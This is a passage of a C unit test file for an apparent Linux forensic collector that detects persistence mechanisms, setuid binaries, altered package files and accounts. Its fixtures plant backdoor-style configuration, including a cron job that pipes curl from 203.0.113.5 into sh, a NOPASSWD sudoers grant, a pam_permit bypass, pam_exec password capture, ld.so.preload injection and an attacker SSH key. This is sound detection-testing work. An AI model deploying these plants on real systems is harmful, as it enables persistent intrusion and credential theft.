/* What starts by itself, who may be somebody, and whether files are as dpkg brought them. */
#include "tests/collect/linux_harness.h"

#include "base/str.h"
#include "collect/accounts.h"
#include "collect/origin.h"

#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
#include <utmp.h>

static collect_source_function *const all_sources[] = {
    collect_accounts,        collect_persist_files,
    collect_persist_cron,    collect_persist_units,
    collect_persist_keys,    collect_persist_logins,
    collect_persist_servers, collect_privileged_files,
    collect_packaged_files,  NULL};

static void append(struct linux_host *host, const char *path, const char *text)
{
    CLEANUP_STR struct str full = {0};
    str_printf(&full, "%s/%s", host->dir, path);
    FILE *f = fopen(str_text(&full), "a");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
}

static void give_mode(struct linux_host *host, const char *path, unsigned mode)
{
    CLEANUP_STR struct str full = {0};
    str_printf(&full, "%s/%s", host->dir, path);
    assert_int_equal(chmod(str_text(&full), mode), 0);
}

static void put_md5(struct str *out, const char *text)
{
    unsigned char md5[EVP_MAX_MD_SIZE];
    assert_true(EVP_Digest(text, strlen(text), md5, NULL, EVP_md5(), NULL));
    for (size_t i = 0; i < MD5_BYTES; i++)
        str_printf(out, "%02x", md5[i]);
}

/* A file of the package "tool". */
static void own(struct linux_host *host, const char *path, const char *text)
{
    CLEANUP_STR struct str line = {0};
    linux_write(host, path, text, strlen(text));
    give_mode(host, path, 0755);
    put_md5(&line, text);
    str_printf(&line, "  %s\n", path);
    append(host, "var/lib/dpkg/info/tool.md5sums", str_text(&line));
}

static const char passwd[] = "root:x:0:0:root:/root:/bin/bash\n"
                             "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
                             "op:x:1000:1000:Operator:/home/op:/bin/bash\n";
static const char shadow[] = "root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n"
                             "op:$y$j9T$abc:19000:0:99999:7:::\n";

/* A small Debian where everything is as packages brought it. */
static void begin(struct linux_host *host)
{
    CLEANUP_STR struct str status = {0};
    linux_begin(host, (struct linux_file[]){{"etc/passwd", passwd},
                                            {"etc/shadow", shadow},
                                            {"etc/group", "root:x:0:\nsudo:x:27:op\n"},
                                            {"etc/nsswitch.conf", "passwd: files systemd\n"},
                                            {"etc/machine-id", "0123\n"},
                                            {"var/lib/dpkg/info/tool.list", "/.\n"},
                                            {"var/lib/dpkg/info/tool.md5sums", ""},
                                            {NULL, NULL}});
    str_add(&status, "Package: tool\nStatus: install ok installed\nConffiles:\n /etc/crontab ");
    put_md5(&status, "# nothing\n");
    str_add(&status, "\n\n");
    linux_write(host, "var/lib/dpkg/status", str_text(&status), status.length);
    linux_write(host, "etc/crontab", "# nothing\n", 10);
    own(host, "usr/share/base-files/dot.bashrc", "# plain\n");
    own(host, "usr/share/base-files/profile", "# system\n");
    linux_write(host, "root/.bashrc", "# plain\n", 8);
    linux_write(host, "etc/profile", "# system\n", 9);
    own(host, "etc/cron.daily/tool", "#!/bin/sh\ncurl http://x | sh\n");
    own(host, "usr/lib/systemd/system/tool.service", "[Service]\nExecStart=/usr/bin/tool\n");
    own(host, "usr/lib/x86_64-linux-gnu/security/pam_unix.so", "unix");
    own(host, "usr/lib/php/20220829/opcache.so", "opcache");
    own(host, "usr/bin/bash", "bash");
    own(host, "usr/bin/su", "su");
    own(host, "usr/bin/ls", "ls");
    give_mode(host, "usr/bin/su", 04755);
    linux_link(host, "etc/systemd/system/multi-user.target.wants/tool.service",
               "/lib/systemd/system/tool.service");
    linux_link(host, "bin", "usr/bin");
    linux_link(host, "lib", "usr/lib");
    linux_link(host, "etc/systemd/system/off.service", "/dev/null");
    linux_link(host, "etc/rc2.d/S01gone", "../init.d/gone");
    linux_write(host, "etc/pam.d/common-auth",
                "auth [success=1 default=ignore] pam_unix.so nullok\n"
                "auth requisite pam_deny.so\nauth required pam_permit.so\n",
                strlen("auth [success=1 default=ignore] pam_unix.so nullok\n"
                       "auth requisite pam_deny.so\nauth required pam_permit.so\n"));
    linux_write(host, "var/www/html/.htaccess", "RewriteEngine On\nRewriteRule . /index.php [L]\n",
                46);
}

static void expect_nothing(struct linux_host *host)
{
    static const char *const kinds[] = {"persistence", "privileged-file", "packaged-file",
                                        "unread"};
    for (size_t i = 0; i < ARRAY_COUNT(kinds); i++)
        if (linux_count(host, kinds[i])) {
            harness_print(&host->h);
            fail_msg("there is a fact of kind %s", kinds[i]);
        }
}

static void what_packages_brought_is_nothing_to_look_at(void **state)
{
    struct linux_host host;
    begin(&host);
    linux_run(&host, all_sources);
    expect_nothing(&host);
    assert_int_equal(linux_count(&host, "account"), 3);
    linux_end(&host);
}

static const char key[] = "ssh-ed25519 "
                          "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
                          " evil@example\n";

/* One plant each: a file, and what is said of it. */
static const struct {
    const char *path, *text;
    unsigned mode;
    const char *type, *runs; /* `runs` contains this */
} plants[] = {
    {"etc/cron.d/x", "* * * * * root curl http://203.0.113.5 | sh\n", 0644, "cron", "curl"},
    {"etc/crontab", "* * * * * root /x\n", 0644, "cron", "/x"},
    {"etc/cron.daily/tool", "#!/bin/sh\n/x\n", 0755, "cron", "/x"},
    {"etc/anacrontab", "1 5 job /x\n", 0644, "cron", "/x"},
    {"var/spool/cron/crontabs/www-data", "@reboot /var/www/.x\n", 0600, "cron", "/var/www/.x"},
    {"var/spool/cron/atjobs/a000010198a", "#!/bin/sh\nA=1; export A\n/x\n", 0700, "at", "/x"},
    {"etc/systemd/system/x.service", "[Service]\nExecStart=/x\n", 0644, "unit", "ExecStart=/x"},
    {"etc/systemd/system/x.timer", "[Timer]\nOnBootSec=1\n", 0644, "unit", "OnBootSec"},
    {"usr/lib/systemd/system/tool.service", "[Service]\nExecStart=/y\n", 0644, "unit", "/y"},
    {"etc/systemd/system/tool.service.d/a.conf", "[Service]\nExecStartPre=/x\n", 0644, "unit",
     "ExecStartPre=/x"},
    {"home/op/.config/systemd/user/x.service", "[Service]\nExecStart=/x\n", 0644, "unit", "/x"},
    {"etc/rc.local", "#!/bin/sh\n/x &\n", 0755, "init", "/x &"},
    {"etc/init.d/x", "#!/bin/sh\n/x\n", 0755, "init", "/x"},
    {"usr/lib/systemd/system-generators/x", "#!/bin/sh\n/x\n", 0755, "init", "/x"},
    {"root/.bashrc", "# plain\nsudo() { /x; }\n", 0644, "profile", "sudo()"},
    {"etc/profile", "# system\n. /x\n", 0644, "profile", "/x"},
    {"etc/profile.d/x.sh", "/x\n", 0644, "profile", "/x"},
    {"home/op/.ssh/rc", "/x\n", 0644, "profile", "/x"},
    {"etc/update-motd.d/99-x", "#!/bin/sh\n/x\n", 0755, "motd", "/x"},
    {"etc/udev/rules.d/99-x.rules", "ACTION==\"add\", RUN+=\"/x\"\n", 0644, "udev", "/x"},
    {"etc/apt/apt.conf.d/99x", "DPkg::Post-Invoke {\n\"/x\";\n};\n", 0644, "apt-hook", "/x"},
    {"etc/dpkg/dpkg.cfg.d/x", "post-invoke=/x\n", 0644, "apt-hook", "/x"},
    {"etc/network/if-up.d/x", "#!/bin/sh\n/x\n", 0755, "hook", "/x"},
    {"etc/logrotate.d/x", "/var/log/x {\npostrotate\n/x\nendscript\n}\n", 0644, "hook", "/x"},
    {"etc/modprobe.d/x.conf", "install usb /x\n", 0644, "hook", "/x"},
    {"etc/ssh/sshd_config", "AuthorizedKeysCommand /x\n", 0644, "sshd", "/x"},
    {"etc/ld.so.preload", "/lib/x.so # y\n", 0644, "preload", "/lib/x.so"},
    {"etc/environment", "LD_PRELOAD=/x.so\n", 0644, "preload", "/x.so"},
    {"etc/ld.so.conf.d/x.conf", "/x\n", 0644, "linker", "/x"},
    {"etc/pam.d/common-auth", "auth sufficient pam_permit.so\nauth required pam_unix.so\n", 0644,
     "pam-open", "pam_permit.so"},
    {"etc/pam.d/common-session", "session optional pam_exec.so expose_authtok /x\n", 0644, "pam",
     "/x"},
    {"etc/pam.d/sshd", "@include common-auth\n", 0644, "pam", "common-auth"},
    {"usr/lib/x86_64-linux-gnu/security/pam_unix.so", "unix and more", 0644, "pam-module",
     "pam_unix.so"},
    {"usr/lib/x86_64-linux-gnu/security/pam_x.so", "x", 0644, "pam-module", "pam_x.so"},
    {"etc/sudoers.d/x", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0440, "sudo", "NOPASSWD"},
    {"usr/lib/php/20220829/x.so", "x", 0644, "module", "x.so"},
    {"usr/lib/apache2/modules/mod_x.so", "x", 0644, "module", "mod_x.so"},
    {"usr/lib/nginx/modules/x.so", "x", 0644, "module", "x.so"},
    {"etc/php/8.2/fpm/php.ini", "extension=/tmp/x.so\n", 0644, "module", "/tmp/x.so"},
    {"etc/php/8.2/fpm/pool.d/x.conf", "php_admin_value[extension] = /tmp/x.so\n", 0644, "module",
     "/tmp/x.so"},
    {"etc/php/8.2/fpm/conf.d/a.ini", "extension_dir=/a\nzend_extension=../x.so ; /y\n", 0644,
     "module", "../x.so"},
    {"etc/php/8.2/fpm/conf.d/x.ini", "auto_prepend_file = \"/x.php\"\n", 0644, "prepend", "/x.php"},
    {"etc/php/8.2/fpm/pool.d/www.conf", "php_admin_value[auto_prepend_file] = /x.php\n", 0644,
     "prepend", "/x.php"},
    {"var/www/html/a/.user.ini", "auto_append_file=/x.php\n", 0644, "prepend", "/x.php"},
    {"var/www/html/img/.htaccess", "AddType application/x-httpd-php .jpg\n", 0644, "htaccess",
     ".jpg"},
    {"home/op/.ssh/authorized_keys", key, 0600, "key", ""},
    {"var/www/.ssh/authorized_keys2", key, 0600, "key", ""},
};

static void each_plant_is_found(void **state)
{
    for (size_t i = 0; i < ARRAY_COUNT(plants); i++) {
        struct linux_host host;
        begin(&host);
        linux_write(&host, plants[i].path, plants[i].text, strlen(plants[i].text));
        give_mode(&host, plants[i].path, plants[i].mode);
        linux_run(&host, all_sources);
        const struct fact *f = facts_first(host.h.facts, "persistence");
        if (linux_count(&host, "persistence") != 1 ||
            !str_equal(harness_value(f, "way"), plants[i].type) ||
            !strstr(harness_value(f, "runs"), plants[i].runs) ||
            !str_equal(harness_value(f, "path") + 1, plants[i].path)) {
            harness_print(&host.h);
            fail_msg("%s was not found as it should be", plants[i].path);
        }
        assert_string_not_equal(harness_value(f, "origin"), "package");
        assert_string_not_equal(harness_value(f, "changed"), "<none>");
        linux_end(&host);
    }
}

static void a_key_is_named_as_sshd_names_it(void **state)
{
    struct linux_host host;
    begin(&host);
    linux_write(&host, "etc/ssh/sshd_config", "AuthorizedKeysFile /etc/keys/%u .k\n", 35);
    CLEANUP_STR struct str text = {0};
    str_printf(&text, "# a comment\ncommand=\"/bin/x \\\"y z\\\"\",no-pty %s", key);
    linux_write(&host, "etc/keys/op", str_text(&text), text.length);
    linux_run(&host, (collect_source_function *const[]){collect_persist_keys, NULL});
    assert_string_equal(linux_only(&host, "persistence", "user"), "op");
    /* ssh-keygen -lf says so */
    assert_string_equal(linux_only(&host, "persistence", "fingerprint"),
                        "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU");
    assert_string_equal(linux_only(&host, "persistence", "comment"), "evil@example");
    assert_string_equal(linux_only(&host, "persistence", "runs"),
                        "command=\"/bin/x \\\"y z\\\"\",no-pty");
    linux_end(&host);
}

/* It is told all the same: whoever reads the finding has something to read in each place of it. */
static void a_key_that_is_no_base64_has_a_fingerprint_nobody_knows(void **state)
{
    struct linux_host host;
    begin(&host);
    linux_write(&host, "home/op/.ssh/authorized_keys", "ssh-rsa AAAA*BBB x@example\n", 27);
    linux_run(&host, (collect_source_function *const[]){collect_persist_keys, NULL});
    assert_string_equal(linux_only(&host, "persistence", "fingerprint"), "SHA256:?");
    assert_string_equal(linux_only(&host, "persistence", "comment"), "x@example");
    linux_end(&host);
}

static void programs_with_more_rights_are_found(void **state)
{
    static const struct {
        const char *path;
        unsigned mode;
        const char *grants, *origin;
    } rows[] = {
        {"tmp/.x", 04755, "root", "none"},           {"usr/bin/bash", 04755, "root", "package"},
        {"usr/bin/ls", 02755, "a group", "package"}, {"var/www/html/up.png", 04755, "root", "none"},
        {"usr/local/bin/x", 06755, "root", "none"},
    };
    for (size_t i = 0; i < ARRAY_COUNT(rows); i++) {
        struct linux_host host;
        begin(&host);
        if (str_equal(rows[i].origin, "none"))
            linux_write(&host, rows[i].path, "x", 1);
        give_mode(&host, rows[i].path, rows[i].mode);
        linux_run(&host, (collect_source_function *const[]){collect_privileged_files, NULL});
        assert_string_equal(linux_only(&host, "privileged-file", "path") + 1, rows[i].path);
        assert_string_equal(linux_only(&host, "privileged-file", "origin"), rows[i].origin);
        if (geteuid() == 0)
            assert_string_equal(linux_only(&host, "privileged-file", "grants"), rows[i].grants);
        linux_end(&host);
    }
}

static bool says_unread(struct linux_host *host, const char *path)
{
    for (const struct fact *f = facts_first(host->h.facts, "unread"); f;
         f = facts_next(host->h.facts, "unread", f))
        if (str_equal(f->path, path))
            return true;
    return false;
}

static void run_whole_by(struct linux_host *host, const struct collect_patience *patience,
                         unsigned threads)
{
    CLEANUP_ARENA struct arena *arena = arena_new();
    facts_free(host->h.facts);
    host->h.facts = facts_new();
    struct collection c = {.target = host->h.target,
                           .facts = host->h.facts,
                           .cache = host->cache,
                           .arena = arena,
                           .purposes = COLLECT_PERSISTENCE | COLLECT_FILES,
                           .netlink_fd = -1,
                           .patience = patience,
                           .threads = threads,
                           .now = host->now};
    collect_privileged_files(&c);
    collect_packaged_files(&c);
}

static void run_whole_with(struct linux_host *host, const struct collect_patience *patience)
{
    run_whole_by(host, patience, 1);
}

static void run_whole(struct linux_host *host)
{
    run_whole_with(host, NULL);
}

static void files_of_packages_are_compared_and_remembered(void **state)
{
    struct linux_host host;
    struct memory_cache cache;
    begin(&host);
    memory_cache_begin(&cache);
    host.cache = &cache.cache;
    run_whole(&host);
    expect_nothing(&host);
    size_t hits = cache.hits;
    linux_write(&host, "usr/bin/ls", "longer", 6);
    linux_write(&host, "usr/bin/stranger", "x", 1);
    give_mode(&host, "usr/bin/stranger", 0755);
    linux_write(&host, "usr/lib/x86_64-linux-gnu/libx.so.1", "x", 1);
    linux_write(&host, "srv/deep/down/here/x", "x", 1);
    give_mode(&host, "srv/deep/down/here/x", 04711);
    run_whole(&host);
    assert_true(cache.hits >= hits + 2); /* the index and what was found unchanged */
    assert_string_equal(
        harness_value(harness_find(&host.h, "packaged-file", "path", "/usr/bin/ls"), "state"),
        "changed");
    assert_non_null(harness_find(&host.h, "packaged-file", "path", "/usr/bin/stranger"));
    assert_non_null(
        harness_find(&host.h, "packaged-file", "path", "/usr/lib/x86_64-linux-gnu/libx.so.1"));
    assert_int_equal(linux_count(&host, "packaged-file"), 3);
    assert_non_null(harness_find(&host.h, "privileged-file", "path", "/srv/deep/down/here/x"));
    assert_int_equal(linux_count(&host, "privileged-file"), 1);
    memory_cache_end(&cache);
    linux_end(&host);
}

/* The record of another system, or a folder full of what nobody knows: the first say it, and that
 * there are more is said. */
static void more_files_than_are_stated_are_said(void **state)
{
    enum { MANY = 2005, STATED = 2000 };
    struct linux_host host;
    begin(&host);
    for (unsigned i = 0; i < MANY; i++) {
        char line[64];
        snprintf(line, sizeof line, "%032x  usr/lib/gone/%u\n", i, i);
        append(&host, "var/lib/dpkg/info/tool.md5sums", line);
    }
    run_whole(&host);
    assert_int_equal(linux_count(&host, "packaged-file"), STATED);
    assert_string_equal(linux_only(&host, "unread", "what"), "packaged-file");
    linux_end(&host);

    begin(&host);
    for (unsigned i = 0; i < MANY; i++) {
        char path[64];
        snprintf(path, sizeof path, "usr/bin/stranger%u", i);
        linux_write(&host, path, "x", 1);
        give_mode(&host, path, 0755);
    }
    linux_write(&host, "usr/sbin/stranger", "x", 1);
    give_mode(&host, "usr/sbin/stranger", 0755);
    run_whole(&host);
    assert_int_equal(linux_count(&host, "packaged-file"), STATED);
    assert_string_equal(linux_only(&host, "unread", "what"), "packaged-file");
    linux_end(&host);
}

/* What stands in a list that nobody can read is compared with nothing: that is not clean. */
static void a_list_that_cannot_be_read_is_said(void **state)
{
    static collect_source_function *const source[] = {collect_packaged_files, NULL};
    struct linux_host host;
    begin(&host);
    CLEANUP_STR struct str list = {0};
    str_printf(&list, "%s/var/lib/dpkg/info/tool.md5sums", host.dir);
    assert_int_equal(unlink(str_text(&list)), 0);
    assert_int_equal(mkfifo(str_text(&list), 0644), 0);
    append(&host, "var/lib/dpkg/info/tool.list", "/usr/bin/bash\n/usr/bin/su\n/usr/bin/ls\n");
    linux_run(&host, source);
    assert_string_equal(linux_only(&host, "unread", "what"), "packaged-file");
    assert_true(says_unread(&host, "/var/lib/dpkg/info"));
    run_whole(&host);
    assert_true(says_unread(&host, "/var/lib/dpkg/info"));
    linux_end(&host);
}

/* Times are of seconds: a change in the second of the look would not be seen in them. */
static void what_has_just_changed_is_not_remembered(void **state)
{
    struct linux_host host;
    struct memory_cache cache;
    begin(&host);
    memory_cache_begin(&cache);
    host.cache = &cache.cache;
    host.now = time(NULL);
    run_whole(&host);
    expect_nothing(&host);
    linux_write(&host, "usr/bin/ls", "sl", 2);
    run_whole(&host);
    assert_string_equal(linux_only(&host, "packaged-file", "path"), "/usr/bin/ls");
    memory_cache_end(&cache);
    linux_end(&host);
}

/* All that was stated, in its order. */
static void state_as_text(const struct linux_host *host, struct str *out)
{
    for (size_t i = 0; i < facts_count(host->h.facts); i++) {
        const struct fact *f = facts_at(host->h.facts, i);
        str_printf(out, "%s %s %s\n", f->kind, f->path, fact_text(f, "state"));
    }
}

/* Eight threads look, in whatever order the machine lets them, and say what one says. */
static void many_threads_say_what_one_says(void **state)
{
    enum { MANY = 400 };
    struct linux_host host;
    begin(&host);
    for (unsigned i = 0; i < MANY; i++) {
        char line[128], path[64];
        snprintf(path, sizeof path, "usr/lib/tool/%03u", i);
        if (i % 7)
            linux_write(&host, path, i % 3 ? "x" : "y", 1);
        snprintf(line, sizeof line, "9dd4e461268c8034f5c8564e155c67a6  %s\n", path); /* of "x" */
        append(&host, "var/lib/dpkg/info/tool.md5sums", line);
    }
    linux_write(&host, "usr/lib/tool/007/in", "x", 1); /* a folder in a file's place */
    CLEANUP_STR struct str one = {0};
    run_whole(&host);
    state_as_text(&host, &one);
    assert_non_null(strstr(str_text(&one), "packaged-file /usr/lib/tool/000 missing\n"));
    assert_non_null(strstr(str_text(&one), "packaged-file /usr/lib/tool/003 changed\n"));
    assert_null(strstr(str_text(&one), "packaged-file /usr/lib/tool/001 "));
    for (unsigned i = 0; i < 20; i++) {
        CLEANUP_STR struct str many = {0};
        run_whole_by(&host, NULL, 8);
        state_as_text(&host, &many);
        assert_string_equal(str_text(&many), str_text(&one));
    }
    linux_end(&host);
}

/* Whether its maker left them out, or whoever changed ls deleted them. */
static void a_package_without_checksums_is_not_compared_and_said_once(void **state)
{
    struct linux_host host;
    begin(&host);
    linux_write(&host, "opt/vendor/run", "x", 1);
    linux_write(&host, "opt/vendor/lib.so", "x", 1);
    linux_write(&host, "opt/folders/of/another", "x", 1);
    append(&host, "var/lib/dpkg/info/vendor.list",
           "/.\n/opt\n/opt/vendor\n/opt/vendor/run\n/opt/vendor/lib.so\n");
    append(&host, "var/lib/dpkg/info/folders.list", "/.\n/opt\n/opt/folders\n/opt/folders/of\n");
    run_whole_by(&host, NULL, 4);
    assert_string_equal(linux_only(&host, "packaged-file", "package"), "vendor");
    const struct fact *f = facts_first(host.h.facts, "packaged-file");
    assert_int_equal(fact_value(f, "state")->state, VALUE_UNREADABLE);
    assert_string_equal(f->path, "/var/lib/dpkg/info/vendor.md5sums");
    linux_end(&host);
}

static bool is_through(struct linux_host *host)
{
    const struct fact *unread = facts_first(host->h.facts, "unread");
    if (!unread)
        return true;
    /* one thing, that is called the same however far it came */
    assert_string_equal(linux_only(host, "unread", "what"), "the comparison with the packages");
    assert_string_equal(unread->path, "/var/lib/dpkg");
    return false;
}

/* What a run compares is at least one file: so many runs are enough. */
static void a_scan_that_was_broken_off_goes_on_in_its_session_and_no_longer(void **state)
{
    enum { MANY = 12 };
    struct linux_host host;
    struct memory_cache cache;
    struct collect_patience patience = {.ms = 0, .session = "incident-1"};
    begin(&host);
    memory_cache_begin(&cache);
    host.cache = &cache.cache;
    for (unsigned i = 0; i < MANY; i++) {
        char line[128], path[64];
        snprintf(path, sizeof path, "usr/lib/tool/%u", i);
        linux_write(&host, path, "x", 1);
        snprintf(line, sizeof line, "9dd4e461268c8034f5c8564e155c67a6  %s\n", path); /* of "x" */
        append(&host, "var/lib/dpkg/info/tool.md5sums", line);
    }
    run_whole_with(&host, &patience);
    assert_false(is_through(&host));
    /* not from what another session, or an audit, found unchanged */
    patience.session = "incident-2";
    for (unsigned i = 0; i < 5; i++)
        run_whole_with(&host, &patience);
    assert_false(is_through(&host));
    patience.session = NULL;
    for (unsigned i = 0; i < MANY + 20; i++)
        run_whole_with(&host, &patience);
    assert_false(is_through(&host));

    patience.session = "incident-1";
    unsigned runs = 0;
    do
        run_whole_with(&host, &patience);
    while (!is_through(&host) && ++runs < MANY + 20);
    assert_true(is_through(&host));
    assert_true(runs > MANY / 2);
    expect_nothing(&host);
    /* the next one is a new look at all of it */
    run_whole_with(&host, &patience);
    assert_false(is_through(&host));
    /* and so is one that would go on after hours */
    for (unsigned i = 0; i < MANY + 20; i++) {
        run_whole_with(&host, &patience);
        host.now += COLLECT_GOES_ON_SECONDS;
    }
    assert_false(is_through(&host));
    memory_cache_end(&cache);
    linux_end(&host);
}

static void accounts_are_told_apart(void **state)
{
    struct linux_host host;
    begin(&host);
    append(&host, "etc/passwd",
           "toor:x:0:0::/root:/bin/sh\nempty::1001:1001::/home/empty:\n"
           "svc:x:200:200::/var/svc:/bin/sh\n");
    append(&host, "etc/shadow", "toor:$6$x:20000:0:99999:7:::\nsvc:!:20000:0:99999:7::1:\n");
    linux_write(&host, "etc/passwd-", passwd, strlen(passwd));
    linux_run(&host, all_sources);
    const struct fact *toor = harness_find(&host.h, "account", "name", "toor");
    const struct fact *empty = harness_find(&host.h, "account", "name", "empty");
    const struct fact *svc = harness_find(&host.h, "account", "name", "svc");
    assert_string_equal(harness_value(toor, "kind_of"), "root");
    assert_string_equal(harness_value(toor, "password"), "set");
    assert_string_equal(harness_value(toor, "password_changed"), "2024-10-04");
    assert_string_equal(harness_value(toor, "in_former_copy"), "no");
    assert_string_equal(harness_value(empty, "password"), "empty");
    assert_string_equal(harness_value(empty, "login"), "yes");
    assert_string_equal(harness_value(svc, "password"), "locked");
    assert_string_equal(harness_value(svc, "expired"), "yes");
    assert_string_equal(harness_value(harness_find(&host.h, "account", "name", "op"), "groups"),
                        "sudo");
    /* no hash is ever told */
    for (size_t i = 0; i < facts_count(host.h.facts); i++)
        for (size_t k = 0; k < facts_at(host.h.facts, i)->value_count; k++)
            assert_null(strstr(facts_at(host.h.facts, i)->values[k].text, "$6$"));
    linux_end(&host);
}

static void a_user_is_local_or_of_a_directory(void **state)
{
    struct linux_host host;
    collect_source_function *const only[] = {collect_accounts, NULL};
    const char *service;
    begin(&host);
    linux_run(&host, only);
    assert_int_equal(account_source_of(host.h.facts, "op", &service), ACCOUNT_LOCAL);
    assert_int_equal(account_source_of(host.h.facts, "ada", &service), ACCOUNT_NOBODY);
    linux_write(&host, "etc/nsswitch.conf", "passwd # not: ldap\npasswd: files # nis\n", 39);
    linux_run(&host, only);
    assert_int_equal(account_source_of(host.h.facts, "ada", &service), ACCOUNT_NOBODY);
    linux_write(&host, "etc/nsswitch.conf", "passwd: files [NOTFOUND=continue] sss\n", 38);
    linux_run(&host, only);
    assert_int_equal(account_source_of(host.h.facts, "ada", &service), ACCOUNT_DIRECTORY);
    assert_string_equal(service, "sss");
    assert_int_equal(account_source_of(host.h.facts, "root", &service), ACCOUNT_LOCAL);
    linux_link(&host, "etc/passwd", "/nowhere");
    linux_run(&host, only);
    assert_int_equal(account_source_of(host.h.facts, "op", &service), ACCOUNT_UNKNOWN);
    linux_end(&host);
}

static void sessions_are_read(void **state)
{
    static const char text[] = "UID=1000\nUSER=op\nTTY=pts/0\nREMOTE_HOST=203.0.113.9\n"
                               "LEADER=4711\nSERVICE=sshd\nREALTIME=1700000000000000\n";
    struct linux_host host;
    begin(&host);
    linux_write(&host, "run/systemd/sessions/3", text, strlen(text));
    linux_run(&host, (collect_source_function *const[]){collect_accounts, NULL});
    assert_string_equal(linux_only(&host, "session", "user"), "op");
    assert_string_equal(linux_only(&host, "session", "pid"), "4711");
    assert_string_equal(linux_only(&host, "session", "since"), "2023-11-14T22:13:20Z");
    linux_end(&host);
}

static void add_record(struct linux_host *host, const char *path, short type, const char *user)
{
    struct utmp u = {.ut_type = type, .ut_pid = 4711, .ut_tv.tv_sec = 1700000000};
    CLEANUP_STR struct str full = {0};
    str_printf(&full, "%s/%s", host->dir, path);
    memcpy(u.ut_user, user, strlen(user));
    memcpy(u.ut_line, "pts/0", 5);
    memset(u.ut_host, 'h', sizeof u.ut_host); /* fields need not be terminated */
    FILE *f = fopen(str_text(&full), "a");
    assert_non_null(f);
    assert_int_equal(fwrite(&u, sizeof u, 1, f), 1);
    fclose(f);
}

static void logins_of_utmp_are_sessions(void **state)
{
    struct linux_host host;
    begin(&host);
    linux_write(&host, "run/utmp", "", 0);
    add_record(&host, "run/utmp", BOOT_TIME, "reboot");
    add_record(&host, "run/utmp", USER_PROCESS, "op");
    add_record(&host, "run/utmp", DEAD_PROCESS, "gone");
    linux_run(&host, (collect_source_function *const[]){collect_accounts, NULL});
    assert_string_equal(linux_only(&host, "session", "user"), "op");
    assert_string_equal(linux_only(&host, "session", "tty"), "pts/0");
    assert_string_equal(linux_only(&host, "session", "pid"), "4711");
    assert_string_equal(linux_only(&host, "session", "since"), "2023-11-14T22:13:20Z");
    assert_int_equal(strlen(linux_only(&host, "session", "host")), UT_HOSTSIZE);
    assert_false(says_unread(&host, "/run/utmp"));
    append(&host, "run/utmp", "x"); /* what is behind it may be anything */
    linux_run(&host, (collect_source_function *const[]){collect_accounts, NULL});
    assert_true(says_unread(&host, "/run/utmp"));
    linux_end(&host);
}

static void what_cannot_be_read_is_never_clean(void **state)
{
    /* A name that is there and leads nowhere, or is no file, is said. */
    static const struct {
        const char *path, *said, *type;
    } rows[] = {
        {"etc/cron.d/loop", "/etc/cron.d/loop", "cron"},
        {"etc/ld.so.preload", "/etc/ld.so.preload", "preload"},
        {"etc/sudoers.d", "/etc/sudoers.d", "sudo"},
        {"home/op/.ssh/authorized_keys", "/home/op/.ssh/authorized_keys", "key"},
        {"etc/systemd/system/x.service", "/etc/systemd/system/x.service", "unit"},
    };
    for (size_t i = 0; i < ARRAY_COUNT(rows); i++) {
        struct linux_host host;
        begin(&host);
        CLEANUP_STR struct str to = {0};
        str_printf(&to, "/%s", rows[i].path);
        linux_link(&host, rows[i].path, str_text(&to));
        linux_run(&host, all_sources);
        assert_true(says_unread(&host, rows[i].said));
        const struct fact *f = harness_find(&host.h, "persistence", "way", rows[i].type);
        assert_string_equal(harness_value(f, "origin"), "<unreadable>");
        linux_end(&host);
    }
    /* Without dpkg's record nothing has an origin. */
    struct linux_host host;
    begin(&host);
    CLEANUP_STR struct str info = {0};
    str_printf(&info, "%s/var/lib/dpkg", host.dir);
    support_remove_tree(str_text(&info));
    linux_run(&host, all_sources);
    const struct fact *f = facts_first(host.h.facts, "persistence");
    assert_non_null(f);
    for (; f; f = facts_next(host.h.facts, "persistence", f))
        assert_string_equal(harness_value(f, "origin"), "<unreadable>");
    linux_end(&host);
}

static void a_link_through_a_linked_folder_deceives_nobody(void **state)
{
    /* By the names it leads to the package's own unit, in truth to another. */
    struct linux_host host;
    begin(&host);
    linux_link(&host, "etc/systemd/system/x.wants", "/opt/a/b/c/d");
    linux_link(&host, "opt/a/b/c/d/tool.service",
               "../../../../usr/lib/systemd/system/tool.service");
    linux_write(&host, "opt/usr/lib/systemd/system/tool.service",
                "[Service]\nExecStart=/opt/evil\n", 30);
    linux_run(&host, all_sources);
    const struct fact *f = harness_find(&host.h, "persistence", "way", "unit");
    assert_string_equal(harness_value(f, "origin"), "none");
    assert_string_equal(harness_value(f, "runs"), "ExecStart=/opt/evil");
    linux_end(&host);
}

static void a_sparse_file_is_not_read_to_its_end(void **state)
{
    struct linux_host host;
    begin(&host);
    linux_write(&host, "etc/rc.local", "#!/bin/sh\n", 10);
    give_mode(&host, "etc/rc.local", 0755);
    CLEANUP_STR struct str full = {0};
    str_printf(&full, "%s/etc/rc.local", host.dir);
    assert_int_equal(truncate(str_text(&full), 10LL << 30), 0);
    linux_run(&host, all_sources);
    assert_true(says_unread(&host, "/etc/rc.local"));
    linux_end(&host);
}

/* The files that a server was configured from, as the collectors of servers state them. */
static void state_server(struct collection *c)
{
    struct fact *f = facts_add(c->facts, "web-server", "x", 0, -1, CONFIDENCE_HIGH);
    fact_put(c->facts, f, "files", "/etc/apache2/apache2.conf");
}

static void modules_that_a_server_loads_are_looked_at(void **state)
{
    /* `said`: what runs; NULL: nothing is said */
    static const struct {
        const char *line, *said, *origin;
    } rows[] = {
        {"LoadModule x_module /tmp/x.so\n", "/tmp/x.so", "none"},
        {"loadmodule x_module \"/tmp/x.so\"\n", "/tmp/x.so", "none"},
        {"LoadFile /usr/bin/ls /tmp/x.so\n", "/tmp/x.so", "none"},
        {"load_module /tmp/x.so; # /usr\n", "/tmp/x.so", "none"},
        {"LoadModule x_module ../../tmp/x.so\n", "../../tmp/x.so", "<unreadable>"},
        {"load_module modules/x.so;\n", NULL, NULL},
        {"LoadModule x_module /usr/bin/ls\n", NULL, NULL},
        {"extension_dir = /tmp/x\n", NULL, NULL},
    };
